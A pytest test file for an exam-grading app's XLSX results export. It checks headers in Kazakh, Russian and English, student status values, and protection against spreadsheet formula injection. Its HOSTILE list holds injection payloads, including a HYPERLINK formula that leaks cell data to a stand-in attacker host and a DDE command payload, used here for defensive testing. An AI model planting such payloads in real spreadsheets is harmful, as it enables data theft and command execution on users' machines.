"""The results XLSX as a spreadsheet reads it (openpyxl): no user text becomes a formula,
headers follow the reader's language, and each row says absent / not graded / graded."""

import io

import pytest
from openpyxl import load_workbook

from attestation.commissions.models import Examinee
from attestation.grading import services
from attestation.grading.exports import COLUMNS, neutralise
from tests.test_grading_world import admit, make_oral

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def oral(world):
    make_oral(world)
    admit(world, world.examinee)
    return world


def export(world, client_for, language="en"):
    response = client_for(world.user("registrar")).get(
        f"/{language}/grading/sittings/{world.sitting.pk}/results.xlsx"
    )
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def test_user_text_that_looks_like_a_formula_is_a_plain_string(oral, client_for):
    student = oral.examinee.student
    student.user.full_name = HOSTILE[0]
    student.user.save()
    student.group, student.programme = HOSTILE[1], HOSTILE[2]
    student.save()
    other = oral.other_examinee.student
    other.user.full_name, other.group, other.programme = HOSTILE[3], HOSTILE[4], HOSTILE[5]
    other.user.save()
    other.save()
    sheet = export(oral, client_for).active
    cells = [
        sheet.cell(row=r, column=COLUMNS.index(key) + 1)
        for r in (2, 3)
        for key in ("full_name", "group", "programme")
    ]
    assert [c.data_type for c in cells] == ["s"] * 6
    assert [c.value for c in cells] == ["'" + text for text in HOSTILE]
    # Nothing in the whole sheet is stored as a formula.
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_neutralise_leaves_ordinary_values_alone():
    assert neutralise("Абаев Әлихан") == "Абаев Әлихан"
    assert neutralise("ИС-22-1") == "ИС-22-1"
    assert neutralise(88) == 88 and neutralise(None) is None
    assert neutralise("=1") == "'=1"


def test_headers_are_in_the_readers_language_and_keys_stay_stable(oral, client_for):
    for language, header in (("kk", "академиялық топ"), ("ru", "академическая группа")):
        workbook = export(oral, client_for, language)
        first = [c.value for c in workbook.active[1]]
        assert first[COLUMNS.index("group")].casefold() == header.casefold()
        keys = [row[1] for row in workbook["columns"].iter_rows(min_row=2, values_only=True)]
        assert tuple(keys) == COLUMNS
    english = [c.value for c in export(oral, client_for).active[1]]
    assert english[:3] == ["username", "full name", "academic group"]


def test_status_column_says_absent_not_graded_or_graded(oral, client_for):
    chair = oral.user("chair")
    services.final_set(examinee=oral.examinee, actor=chair, score=90)
    Examinee.objects.filter(pk=oral.other_examinee.pk).update(status=Examinee.Status.ABSENT)
    sheet = export(oral, client_for).active
    status = COLUMNS.index("status")
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [r[status] for r in rows] == ["not graded", "absent"]  # not announced yet
    services.sitting_announce(sitting=oral.sitting, actor=chair)
    rows = list(export(oral, client_for).active.iter_rows(min_row=2, values_only=True))
    assert [r[status] for r in rows] == ["graded", "absent"]
    ru = export(oral, client_for, "ru").active
    assert [r[status] for r in ru.iter_rows(min_row=2, values_only=True)] == ["оценён", "не явился"]
